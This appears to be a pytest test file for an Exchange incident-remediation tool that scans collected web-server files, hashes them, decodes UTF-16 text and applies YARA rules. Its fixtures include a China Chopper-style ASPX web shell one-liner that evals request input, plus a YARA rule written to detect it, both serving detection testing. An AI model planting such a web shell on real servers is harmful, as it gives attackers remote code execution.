"""File records for file rules: bundle copies, listing.jsonl, text and YARA (file_scan.py)."""

import hashlib
import json
import os
import sys

from exchange_remediation.bundle_paths import BundleIndex
from exchange_remediation.file_scan import (
    Listing,
    YaraScanner,
    collect_files,
    decode_text,
    looks_like_utf16,
    yara_scanner,
)

TOKENS = {"<WWW>": "C:\\inetpub\\wwwroot"}
CHOPPER = b'<script language="JScript" runat="server">function Page_Load(){eval(Request["orange"],"unsafe");}</script>'
YARA = 'rule ChinaChopper { strings: $a = "eval(Request" nocase condition: $a }'


def _write(root, relative, data):
    path = os.path.join(root, *relative.split("/"))
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as handle:
        handle.write(data)
    return path


def _listing(root, items, extra=b""):
    text = "".join(json.dumps(item) + "\n" for item in items).encode() + extra
    _write(root, "listing.jsonl", text)


def test_bundle_copy_fields(tmp_path):
    bundle = str(tmp_path)
    data = b"ExternalUrl : http://f/" + CHOPPER
    _write(bundle, "files/C/inetpub/wwwroot/aspnet_client/system_web/4BETNm9k.ASPX", data)
    pattern = "C:\\inetpub\\wwwroot\\aspnet_client\\**\\*.aspx"
    items = collect_files(BundleIndex.build(bundle), Listing.read(bundle), [pattern])
    assert [item.windows_path for item in items] == ["C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\4BETNm9k.ASPX"]
    record = items[0].record(TOKENS, None)
    assert record.get("name") == "4BETNm9k.ASPX"
    assert record.get("extension") == ".aspx"
    assert record.get("folder") == "C:\\inetpub\\wwwroot\\aspnet_client\\system_web"
    assert record.get("size") == str(len(data))
    assert record.get("sha256") == hashlib.sha256(data).hexdigest()
    assert record.get("head_hex") == data[:16].hex()
    assert "eval(Request[" in record.get("text")
    assert record.get("yara") == []
    summary = items[0].summary(None)
    assert summary.startswith("C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\4BETNm9k.ASPX, ")
    assert "eval(Request" in summary


def test_listing_wins_for_size_and_hash_and_lists_uncopied_files(tmp_path):
    bundle = str(tmp_path)
    head = b"<%@ Page Language=\"C#\" %>" + b"A" * 100
    _write(bundle, "files/C/inetpub/wwwroot/aspnet_client/big.aspx", head)
    _listing(bundle, [
        {"path": "C:\\inetpub\\wwwroot\\aspnet_client\\big.aspx", "size": 5000000, "sha256": "AB" * 32,
         "modified": "2021-03-03T06:53:00Z", "copied": True, "truncated": True, "head_hex": head[:16].hex()},
        {"path": "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\error.aspx", "size": 10, "sha256": "cd" * 32,
         "copied": False, "head_hex": "3c2540"},
        {"path": "C:\\inetpub\\wwwroot\\aspnet_client\\empty", "type": "dir"},
        {"path": "C:\\inetpub\\wwwroot\\web.config", "size": 1},
    ], extra=b"not json\n{\"size\": 3}\n\n")
    listing = Listing.read(bundle)
    assert listing.present
    assert listing.warnings == ["listing.jsonl: 2 lines are not listing entries and were skipped"]
    assert listing.has_folder("C:\\inetpub\\wwwroot\\aspnet_client\\EMPTY")
    assert listing.has_folder("C:\\inetpub\\wwwroot\\aspnet_client\\system_web")
    items = collect_files(BundleIndex.build(bundle), listing, ["<WWW>\\aspnet_client\\**\\*.aspx".replace(
        "<WWW>", TOKENS["<WWW>"])])
    assert [item.windows_path for item in items] == [
        "C:\\inetpub\\wwwroot\\aspnet_client\\big.aspx",
        "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\error.aspx",
    ]
    big, listed_only = items
    assert big.size == 5000000
    assert big.sha256() == "ab" * 32
    assert big.modified == "2021-03-03T06:53:00Z"
    assert big.record(TOKENS, None).get("text").startswith("<%@ Page")
    record = listed_only.record(TOKENS, None)
    assert record.get("sha256") == "cd" * 32
    assert record.get("head_hex") == "3c2540"
    assert record.get("text") == ""
    assert record.get("size") == "10"
    assert "content not copied" in listed_only.summary(None)


def test_listing_absent_or_unreadable(tmp_path):
    assert not Listing.read(str(tmp_path)).present
    os.mkdir(tmp_path / "listing.jsonl")
    listing = Listing.read(str(tmp_path))
    assert listing.present
    assert listing.warnings and "cannot be read" in listing.warnings[0]


def test_utf16_text_is_searched_too(tmp_path):
    bundle = str(tmp_path)
    data = "\ufeff<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"x\"],\"unsafe\");%>".encode("utf-16-le")
    _write(bundle, "files/C/inetpub/wwwroot/aspnet_client/u.aspx", data)
    assert looks_like_utf16(data)
    assert looks_like_utf16("plain ascii text written as UTF-16".encode("utf-16-le"))
    assert not looks_like_utf16(b"plain ascii text")
    text = decode_text(data)
    assert "eval(Request.Item" in text
    items = collect_files(BundleIndex.build(bundle), Listing.read(bundle), ["C:\\inetpub\\**\\*.aspx"])
    assert "unsafe" in items[0].record(TOKENS, None).get("text")
    assert "eval(Request.Item" in items[0].summary(None)


def test_text_is_the_first_64_kib():
    text = decode_text(b"a" * 70000 + b"eval(Request")
    assert len(text) == 65536
    assert "eval" not in text


def test_yara_matches_once_compiled(tmp_path):
    scanner = yara_scanner(YARA)
    assert scanner is yara_scanner(YARA)
    assert scanner.active and scanner.error is None
    bundle = str(tmp_path)
    _write(bundle, "files/C/inetpub/wwwroot/aspnet_client/a.aspx", CHOPPER)
    _write(bundle, "files/C/inetpub/wwwroot/aspnet_client/b.aspx", b"<html></html>")
    items = collect_files(BundleIndex.build(bundle), Listing.read(bundle), ["C:\\inetpub\\**\\*.aspx"])
    assert [item.record(TOKENS, scanner).get("yara") for item in items] == [["ChinaChopper"], []]
    assert "YARA ChinaChopper" in items[0].summary(scanner)


def test_yara_rules_that_do_not_compile():
    scanner = YaraScanner("rule broken { condition: }")
    assert not scanner.active
    assert "do not compile" in scanner.error
    assert scanner.scan(b"eval(Request") == []
    assert not YaraScanner("").active
    assert YaraScanner("").error is None


def test_yara_without_the_package(monkeypatch):
    monkeypatch.setitem(sys.modules, "yara_x", None)
    scanner = YaraScanner(YARA)
    assert not scanner.active
    assert scanner.error == "YARA scan not run: the Python package yara-x is not installed"


def test_unreadable_copy_is_an_error_not_a_crash(tmp_path):
    bundle = str(tmp_path)
    path = _write(bundle, "files/C/inetpub/wwwroot/aspnet_client/gone.aspx", b"x")
    items = collect_files(BundleIndex.build(bundle), Listing.read(bundle), ["C:\\inetpub\\**\\*.aspx"])
    os.remove(path)
    record = items[0].record(TOKENS, None)
    assert record.get("text") == ""
    assert record.get("sha256") == ""
    assert items[0].errors and "cannot be read" in items[0].errors[0]
